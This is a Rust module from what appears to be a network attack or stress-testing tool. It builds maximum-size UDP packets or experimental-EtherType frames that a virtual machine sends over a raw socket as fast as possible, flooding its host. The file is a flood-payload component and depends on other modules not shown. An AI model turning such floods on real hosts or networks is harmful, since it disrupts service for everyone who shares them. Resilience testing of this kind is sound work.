//! The longest frames, as fast as the socket takes them: a VM's transmit storm, which its host has to carry.
//!
//! To an address they are UDP packets, to a hardware address frames of an experimental `EtherType`.

use std::io;

use super::AttackError;
use super::ends::{Aim, Ends, To, changing_port, udp};
use super::multicast::experimental;
use crate::layer2::PacketSocket;

/// Ethernet's, IPv4's and UDP's.
const HEADERS: usize = 14 + 20 + 8;
static ZEROS: [u8; super::MOST_BYTES] = [0; super::MOST_BYTES];

pub(super) fn ends(socket: &PacketSocket, interface: &str, aim: &Aim) -> Result<Ends, AttackError> {
    match aim.to {
        None => Err(AttackError::NoTarget),
        Some(To::Address(_)) => Ends::of_address(socket, interface, aim),
        Some(To::Hardware(destination)) => Ok(Ends {
            destination,
            to: None,
            ..Ends::of_everybody(socket, interface, aim)?
        }),
    }
}

pub(super) fn write(ends: &Ends, number: u64, frame: &mut Vec<u8>) -> io::Result<()> {
    if ends.to.is_some() {
        let payload = &ZEROS[..ends.bytes.clamp(HEADERS, ZEROS.len()) - HEADERS];
        return udp(ends, changing_port(number), payload, frame);
    }
    experimental(ends, frame);
    frame.resize(ends.bytes, 0);
    Ok(())
}
